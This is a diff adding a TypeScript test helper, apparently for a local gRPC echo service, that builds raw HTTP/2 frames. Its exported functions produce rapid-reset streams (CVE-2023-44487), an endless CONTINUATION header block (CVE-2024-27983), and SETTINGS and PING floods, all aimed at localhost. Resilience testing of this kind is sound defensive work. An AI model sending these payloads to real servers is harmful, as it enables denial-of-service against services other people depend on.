@@ -1,0 +1,64 @@
+/** What an HTTP/2 client sends first: the preface and empty SETTINGS. */
+export const HELLO = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(4, 0, 0)]);
+
+const HEADERS = 1;
+const RST_STREAM = 3;
+const SETTINGS = 4;
+const PING = 6;
+const CONTINUATION = 9;
+const DATA = 0;
+const END_STREAM = 1;
+const END_HEADERS = 4;
+
+function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
+  const head = Buffer.alloc(9);
+  head.writeUIntBE(payload.length, 0, 3);
+  head[3] = type;
+  head[4] = flags;
+  head.writeUInt32BE(stream, 5);
+  return Buffer.concat([head, payload]);
+}
+
+/** A header field as HPACK's literal without indexing, name and value in plain octets (RFC 7541, 6.2.2). */
+function literal(name: string, value: string): Buffer {
+  const text = (s: string): Buffer => Buffer.concat([Buffer.from([s.length]), Buffer.from(s)]);
+  return Buffer.concat([Buffer.from([0]), text(name), text(value)]);
+}
+
+const REQUEST_FIELDS = Buffer.concat([
+  literal(":method", "POST"),
+  literal(":scheme", "http"),
+  literal(":path", "/bellwether.echo.v1.EchoService/Increment"),
+  literal(":authority", "localhost"),
+  literal("content-type", "application/grpc"),
+  literal("te", "trailers"),
+]);
+
+/** Whole calls that are reset as soon as they are sent (CVE-2023-44487), `count` of them from stream `first` on. */
+export function resets(first: number, count: number): Buffer {
+  const frames: Buffer[] = [];
+  for (let i = 0; i < count; i++) {
+    const stream = first + 2 * i;
+    frames.push(frame(HEADERS, END_HEADERS, stream, REQUEST_FIELDS));
+    frames.push(frame(DATA, END_STREAM, stream, Buffer.alloc(5)));
+    frames.push(frame(RST_STREAM, 0, stream, Buffer.from([0, 0, 0, 8])));
+  }
+  return Buffer.concat(frames);
+}
+
+/** A header block that never ends (CVE-2024-27983): HEADERS without END_HEADERS, then CONTINUATION frames. */
+export function continuations(first: boolean, count: number): Buffer {
+  const filler = literal("x-filler", "y".repeat(100));
+  const frames = Array.from({ length: count }, () => frame(CONTINUATION, 0, 1, filler));
+  return Buffer.concat(first ? [frame(HEADERS, 0, 1, REQUEST_FIELDS), ...frames] : frames);
+}
+
+/** SETTINGS frames, each of which must be acknowledged. */
+export function settings(count: number): Buffer {
+  return Buffer.concat(Array.from({ length: count }, () => frame(SETTINGS, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100]))));
+}
+
+/** PING frames, each of which must be answered. */
+export function pings(count: number): Buffer {
+  return Buffer.concat(Array.from({ length: count }, () => frame(PING, 0, 0, Buffer.alloc(8))));
+}
